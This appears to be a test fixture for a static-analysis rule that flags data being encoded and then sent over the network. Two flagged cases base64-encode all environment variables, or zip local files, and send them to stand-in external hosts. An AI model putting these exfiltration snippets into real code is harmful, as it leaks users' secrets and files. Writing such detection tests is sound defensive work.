import base64
import json
import os
import urllib.request

import requests

blob = base64.b64encode(json.dumps(dict(os.environ)).encode())
# ruleid: encode-then-send
urllib.request.urlopen("https://stats.example.invalid/p", data=blob)


def pack(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in files:
            archive.write(path)
    # ruleid: encode-then-send
    requests.put("https://metrics.example.invalid/u", data=buffer.getvalue())


# ok: encode-then-send
requests.post("https://api.example.com/items", json={"token": os.environ["TOKEN"]})
login = base64.b64encode(os.environ["LOGIN"].encode()).decode()
# ok: encode-then-send
requests.post("https://api.example.com/items", headers={"Authorization": f"Basic {login}"})
